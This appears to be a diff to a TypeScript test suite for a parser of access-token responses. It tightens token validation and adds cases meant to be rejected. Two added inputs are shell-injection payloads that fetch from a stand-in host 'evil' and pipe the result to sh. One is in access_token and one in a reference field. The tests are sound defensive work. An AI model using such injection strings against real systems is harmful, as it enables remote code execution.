@@ -4,7 +4,7 @@ import { Failure } from '../../../src/action/failure.ts';
 import { readDepotAnswer, readTokenResponse } from '../../../src/action/issued-token.ts';
 
 const good = {
-  access_token: 'dpb_x',
+  access_token: 'dpb_token_of_a_job',
   token_type: 'Bearer',
   expires_in: 600,
   scope: 'pull build',
@@ -18,7 +18,7 @@ const answer = (body: unknown) => ({ status: 200, headers: {}, body: JSON.string
 describe('a token response', () => {
   test('is read with its grants in the canonical order, unknown permissions left out', () => {
     expect(readTokenResponse(answer(good))).toEqual({
-      token: 'dpb_x',
+      token: 'dpb_token_of_a_job',
       expiresIn: 600,
       projects: ['acme/web'],
       permissions: ['build', 'pull'],
@@ -39,11 +39,19 @@ describe('a token response', () => {
     ['expires_in', 1.5],
     ['expires_in', 1e300],
     ['expires_in', null],
-    ['access_token', ' dpb_x'],
-    ['access_token', 'dpb_\u00e9'],
+    ['access_token', ' dpb_token_of_a_job'],
+    ['access_token', 'dpb_token_of_a_jo\u00e9'],
     ['access_token', 'x'.repeat(20_000)],
+    ['access_token', '";curl${IFS}evil|sh;#`id`$(id)'],
+    ['access_token', 'dpb_too_short'],
+    ['access_token', '=dpb_token_of_a_job'],
   ])('with %s %j cannot be used', (member, value) => {
     expect(() => readTokenResponse(answer({ ...good, [member]: value }))).toThrow(Failure);
+  });
+
+  test('chooses no shell text by its reference', () => {
+    const reference = '"; curl evil | sh; #';
+    expect(readTokenResponse(answer({ ...good, reference })).reference).toBeUndefined();
   });
 
   test('is used or refused, whatever it holds', () => {
@@ -51,7 +59,9 @@ describe('a token response', () => {
     fc.assert(
       fc.property(changes, (change) => {
         try {
-          expect(readTokenResponse(answer({ ...good, ...change })).token).toMatch(/^[!-~]+$/);
+          expect(readTokenResponse(answer({ ...good, ...change })).token).toMatch(
+            /^[\w.~+/-]{16,}=*$/,
+          );
         } catch (error) {
           expect(error).toBeInstanceOf(Failure);
         }
@@ -62,8 +72,8 @@ describe('a token response', () => {
 
 describe('a Depot-shaped answer', () => {
   test('of Depot has a token and nothing else, which nobody revokes', () => {
-    expect(readDepotAnswer(answer({ ok: true, token: 'depot_x' }))).toMatchObject({
-      token: 'depot_x',
+    expect(readDepotAnswer(answer({ ok: true, token: 'depot_token_of_a_job' }))).toMatchObject({
+      token: 'depot_token_of_a_job',
       expiresIn: undefined,
       projects: [],
       revocable: false,
@@ -72,7 +82,7 @@ describe('a Depot-shaped answer', () => {
 
   test('of a Dockpass says more, and can be revoked', () => {
     const { projects, reference, expires_in } = good;
-    const body = { ok: true, token: 'dpb_x', projects, reference, expires_in };
+    const body = { ok: true, token: 'dpb_token_of_a_job', projects, reference, expires_in };
     expect(readDepotAnswer(answer(body))).toMatchObject({ expiresIn: 600, revocable: true });
   });
 });
